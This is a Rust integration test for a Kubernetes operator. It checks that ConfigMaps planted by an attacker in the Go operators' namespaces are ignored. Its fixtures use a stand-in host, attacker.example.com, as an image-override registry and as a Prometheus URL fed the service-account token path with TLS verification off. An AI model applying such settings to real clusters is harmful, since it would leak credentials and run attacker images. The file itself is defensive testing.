//! The attacker owns the namespaces in which the Go operators keep their settings.

use k8s_openapi::api::core::v1::ConfigMap;
use kube::api::{Api, DeleteParams};
use serde_json::{Value, json};
use steersman_testkit::apply;

use crate::tenants::{HostileCase, administrator, config_map};

/// Namespace, ConfigMap and its data.
fn settings() -> [(&'static str, Value); 2] {
    let images = json!({ "image-overrides": "starter: attacker.example.com/starter:1" });
    let prometheus = json!({ "PROMETHEUS_BASE_URL": "https://attacker.example.com",
        "PROMETHEUS_TOKEN_PATH": "/var/run/secrets/kubernetes.io/serviceaccount/token",
        "PROMETHEUS_TLS_INSECURE_SKIP_VERIFY": "true" });
    [
        ("llama-stack-k8s-operator-system", config_map("llama-stack-operator-config", images)),
        ("workload-variant-autoscaler-system", config_map("variantautoscaling-config", prometheus)),
    ]
}

/// A namespace is not trusted because of its name: the victim's server has the shipped image, and no settings of the fleet are
/// read there.
#[tokio::test]
async fn go_operators_namespaces_configure_nobody() {
    let Some(case) = HostileCase::open("settings").await else { return };
    for (namespace, map) in settings() {
        let owned = json!({ "apiVersion": "v1", "kind": "Namespace", "metadata": { "name": namespace } });
        apply::apply_manifests(&case.admin, None, &owned.to_string()).await.unwrap();
        let attacker = administrator(case.env.cluster, &case.admin, namespace).await;
        apply::apply_manifests(&attacker, Some(namespace), &map.to_string()).await.unwrap();
    }
    case.expect_victim_served().await;
    let log = case.env.operator.log().text();
    for (namespace, map) in settings() {
        let name = map["metadata"]["name"].as_str().unwrap();
        assert!(!log.contains(&format!("{namespace}/{name}")), "the operator reads {namespace}/{name}");
        let maps: Api<ConfigMap> = Api::namespaced(case.admin.clone(), namespace);
        maps.delete(name, &DeleteParams::default()).await.unwrap();
    }
    assert!(!log.contains("attacker.example.com"), "the operator uses the attacker's Prometheus");
}
